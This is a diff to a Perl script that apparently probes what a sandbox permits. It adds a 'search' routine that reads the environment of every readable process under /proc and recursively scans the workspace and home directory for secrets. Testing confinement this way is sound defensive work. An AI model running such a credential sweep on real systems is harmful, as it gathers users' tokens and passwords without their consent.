@@ -78,6 +78,17 @@ sub copies {
 my %attempts = (
     # Files.
     read => sub { for (@_) { my $text = contents($_); print defined $text ? $text : "refused: $!", "\n" } },
+    # Every secret in the environments of all processes that can be read, in HOME and in the workspace.
+    search => sub {
+        secrets(contents($_) // '') for glob '/proc/[0-9]*/environ';
+        my @directories = ('.', $ENV{HOME});
+        while (defined(my $directory = shift @directories)) {
+            opendir(my $entries, $directory) or next;
+            for (map { "$directory/$_" } grep { !/^\.\.?$/ } readdir $entries) {
+                if (-d && !-l) { push @directories, $_ } else { secrets(contents($_) // '') }
+            }
+        }
+    },
     list => sub {
         opendir(my $directory, $_[0]) or refused("opendir: $!");
         print "$_\n" for readdir $directory;
